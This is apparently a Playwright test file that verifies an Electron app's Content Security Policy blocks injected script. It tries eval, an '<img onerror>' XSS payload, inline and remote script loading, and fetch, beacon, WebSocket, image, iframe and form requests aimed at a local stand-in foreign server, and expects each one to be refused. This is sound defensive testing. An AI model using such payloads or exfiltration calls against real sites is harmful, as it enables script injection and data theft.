import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { texts } from '../../renderer/texts/en.ts';
import { launchChromium, openWindow } from './browser.ts';
import { ServedStation } from './served-station.ts';

// What an attacker could do with a line of script in the page. Electron sends the same policy.

let station: ServedStation;
let browser: Browser;
let page: Page;
/** Another site, which would reply to anyone. */
let foreign: Server;
let foreignUrl: string;
const asked: string[] = [];

beforeAll(async () => {
  foreign = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('1');
  }).listen(0, '127.0.0.1');
  await once(foreign, 'listening');
  foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  station = await ServedStation.start({ boards: [] });
  browser = await launchChromium();
  ({ page } = await openWindow(browser, await station.link()));
  await page.getByRole('heading', { name: texts.bench.title, exact: true }).waitFor();
});
afterAll(async () => {
  await browser.close();
  await station[Symbol.asyncDispose]();
  foreign.close();
});

/**
 * Lets the page do something and returns which directive of the policy forbade it. In a separate task: what the
 * debugger evaluates itself may do what scripts may not.
 */
async function forbiddenBy(attack: (url: string) => unknown): Promise<string> {
  await page.evaluate(() => {
    const violation = new Promise((resolve) => {
      const onViolation = (event: SecurityPolicyViolationEvent): void => resolve(event.effectiveDirective);
      document.addEventListener('securitypolicyviolation', onViolation, { once: true });
      // Only where nothing forbids it, which fails the test.
      setTimeout(() => resolve('nothing'), 3000);
    });
    Object.assign(window, { violation });
  });
  await page.evaluate(attack, foreignUrl);
  return page.evaluate(() => (window as Window & { violation?: Promise<string> }).violation ?? 'nothing');
}

describe('script in the page', () => {
  it('finds nothing of Node', async () => {
    const names = [
      'require',
      'process',
      'module',
      'Buffer',
      'global',
      '__dirname',
      'electron',
      'ipcRenderer',
    ];
    const found = await page.evaluate((wanted) => wanted.filter((name) => name in globalThis), names);
    expect(found).toEqual([]);
  });

  it('cannot turn text into code', async () => {
    expect(await forbiddenBy(() => void setTimeout(() => void globalThis.eval('1 + 1')))).toBe(
      'require-trusted-types-for',
    );
    expect(
      await forbiddenBy(() => void setTimeout(() => void Reflect.construct(Function, ['return 1']))),
    ).toBe('require-trusted-types-for');
    expect(
      await forbiddenBy(() => void setTimeout(() => void Reflect.apply(setTimeout, window, ['1', 0]))),
    ).toBe('require-trusted-types-for');
  });

  it('cannot write markup, nor make itself a policy that lets it', async () => {
    expect(
      await forbiddenBy(
        () => void setTimeout(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
      ),
    ).toBe('require-trusted-types-for');
    expect(
      await forbiddenBy(() => {
        const factory = Reflect.get(window, 'trustedTypes') as {
          createPolicy(name: string, rules: object): unknown;
        };
        setTimeout(() => void factory.createPolicy('mine', {}));
      }),
    ).toBe('trusted-types');
  });

  it('cannot add its own script, inline or from another site', async () => {
    expect(
      await forbiddenBy(() => {
        const script = document.createElement('script');
        setTimeout(() => (script.textContent = 'window.inline = true'));
      }),
    ).toBe('require-trusted-types-for');
    // As text: the test's own compiler would turn the import into something else.
    const load = `import("${foreignUrl}/x.js").then(() => "loaded", () => "refused")`;
    expect(await page.evaluate(load)).toBe('refused');
  });

  it('cannot use an event handler in an attribute', async () => {
    expect(
      await forbiddenBy(() => void setTimeout(() => document.body.setAttribute('onclick', 'alert(1)'))),
    ).toMatch(/script-src-attr|require-trusted-types-for/);
  });

  it('cannot send anything to another site', async () => {
    expect(await forbiddenBy((url) => void fetch(`${url}/fetch`).catch(() => undefined))).toBe('connect-src');
    expect(await forbiddenBy((url) => void navigator.sendBeacon(`${url}/beacon`, 'x'))).toBe('connect-src');
    expect(
      await forbiddenBy((url) => {
        new WebSocket(url.replace('http', 'ws')).onerror = () => undefined;
      }),
    ).toBe('connect-src');
    expect(
      await forbiddenBy((url) => {
        new Image().src = `${url}/pixel`;
      }),
    ).toBe('img-src');
  });

  it('cannot put a page into the page, nor send a form', async () => {
    expect(
      await forbiddenBy((url) => {
        const frame = document.createElement('iframe');
        frame.src = `${url}/frame`;
        document.body.append(frame);
      }),
    ).toBe('frame-src');
    expect(
      await forbiddenBy((url) => {
        const form = document.createElement('form');
        form.action = `${url}/form`;
        document.body.append(form);
        form.submit();
      }),
    ).toBe('form-action');
  });

  it('has reached no server after all of that', () => {
    expect(asked).toEqual([]);
  });
});

it('a page of another site cannot open the station in a frame, nor talk to it', async () => {
  const context = page.context();
  const other = await context.newPage();
  const own = new URL(page.url()).origin;
  await other.route(`${foreignUrl}/evil`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>evil</title>' }),
  );
  await other.goto(`${foreignUrl}/evil`);
  const outcome = await other.evaluate(async (url) => {
    const read = await fetch(url, { credentials: 'include' }).then(
      (response) => `read ${response.status}`,
      () => 'refused',
    );
    const socket = await new Promise<string>((resolve) => {
      const open = new WebSocket(`${url.replace('http', 'ws')}/contract`, 'canopus.contract.1');
      open.onopen = () => resolve('open');
      open.onerror = () => resolve('refused');
    });
    return { read, socket };
  }, own);
  expect(outcome).toEqual({ read: 'refused', socket: 'refused' });
  const refused = other.waitForEvent('requestfailed', (request) => request.url() === `${own}/`);
  await other.evaluate((url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  }, own);
  expect((await refused).failure()?.errorText).toContain('ERR_BLOCKED_BY');
  await other.close();
});
